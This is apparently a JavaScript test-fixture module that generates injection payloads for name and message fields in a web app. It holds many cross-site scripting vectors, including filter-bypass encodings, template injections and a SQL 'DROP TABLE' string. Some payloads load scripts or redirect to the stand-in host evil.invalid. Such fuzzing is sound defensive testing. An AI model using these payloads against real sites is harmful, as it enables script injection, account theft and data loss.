/** Injection payloads for names and messages. Each calls `hostile()` if a page executes it. */

const RUN = 'hostile()';
const EVIL = '//evil.invalid/x';

/** Short enough for a name. */
const SHORT = [
    `<img src=x onerror=${RUN}>`,
    `<svg onload=${RUN}>`,
    `<script>${RUN}</script>`,
    `<a href=javascript:${RUN}>a</a>`,
    `javascript:${RUN}`,
    `"onmouseover="${RUN}`,
    `'-${RUN}-'`,
    `{{${RUN}}}`,
    `\${${RUN}}`,
    `{@html a}`,
    `$t(brand)`,
    `{{name}} {{count}}`,
    `<b>bold</b><!--`,
    `&lt;b&gt;&#60;i&#62;`,
    `]]><x/>`,
    `<style>*{display:none}</style>`,
    `__proto__`,
    `constructor`,
    `<iframe src=${EVIL}>`,
    `'; DROP TABLE seat;--`,
    'W'.repeat(32),
    'م'.repeat(32),
    'שלום עולם',
    `Z${'\u0300\u0315\u0334'.repeat(8)}a`,
    '👩‍👩‍👧‍👦'.slice(0, 11),
    '\u202eevil\u202c',
    'a\u0000b',
    '\u200f\u200e',
    '%3Cscript%3E',
    '\\u003cscript\\u003e',
];

/** For messages, which may be longer. */
const LONG = [
    `<script src="https:${EVIL}"></script>`,
    `</script><script>${RUN}</script>`,
    `<ScRiPt >${RUN}</sCrIpT>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<img src="x" onerror="${RUN}" style="position:fixed;inset:0">`,
    `<img/src/onerror=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<details open ontoggle=${RUN}>`,
    `<video><source onerror=${RUN}></video>`,
    `<body onload=${RUN}>`,
    `<input autofocus onfocus=${RUN}>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<object data="javascript:${RUN}"></object>`,
    `<embed src="data:text/html,<script>${RUN}</script>">`,
    `<form action="javascript:${RUN}"><button>go</button></form>`,
    `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
    `<meta http-equiv="refresh" content="0;url=https:${EVIL}">`,
    `<base href="https:${EVIL}">`,
    `<link rel=stylesheet href="https:${EVIL}">`,
    `<style>@import url(https:${EVIL});body{display:none}</style>`,
    `<div style="background:url(https:${EVIL})">x</div>`,
    `<template shadowrootmode=open><script>${RUN}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `" autofocus onfocus="${RUN}" x="`,
    `' onclick='${RUN}' y='`,
    `[press me](javascript:${RUN})`,
    `<a href="java&#9;script:${RUN}">x</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=">x</a>`,
    `{{constructor.constructor('${RUN}')()}}`,
    `{@html "<img src=x onerror=${RUN}>"}`,
    `<%= ${RUN} %> #{${RUN}} @{${RUN}} [[${RUN}]]`,
    `$t(talk.news, {"name": "x", "text": "y"})`,
    `eval("${RUN}");//`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
    `\\x3cimg src=x onerror=${RUN}\\x3e`,
    'W'.repeat(400),
    'https://example.invalid/' + 'a'.repeat(370),
    'ﷺ'.repeat(120),
    '𒐫'.repeat(100),
    `Zal${'\u0300\u0315\u0334\u0489'.repeat(80)}go`,
    'مرحبا '.repeat(40) + `<img src=x onerror=${RUN}>`,
    `\u202egnp.exe <img src=x onerror=${RUN}>`,
    `line\u2028<img src=x onerror=${RUN}>`,
    `null\u0000<img src=x onerror=${RUN}>`,
    '👩‍👩‍👧‍👦'.repeat(20),
];

const AROUND = [
    (text) => text,
    (text) => `"><${text}`,
    (text) => `'>${text}`,
    (text) => `</p>${text}`,
    (text) => `${text} ${text}`,
    (text) => text.toUpperCase(),
    (text) => `hello ${text}`,
    (text) => `<${text}`,
];

/** Unique numbered messages, trimmed as the server stores them. */
export function* messages() {
    for (let round = 0; ; round += 1) {
        for (const text of [...LONG, ...SHORT]) {
            const made = AROUND[round % AROUND.length](text);
            yield (round < AROUND.length ? made : `${round} ${made}`).slice(0, 400).trim();
        }
    }
}

export function* names() {
    for (let round = 0; ; round += 1) {
        for (const text of SHORT)
            yield (round ? `${round}${text}` : text).slice(0, 32).split(/\s+/).filter(Boolean).join(' ');
    }
}
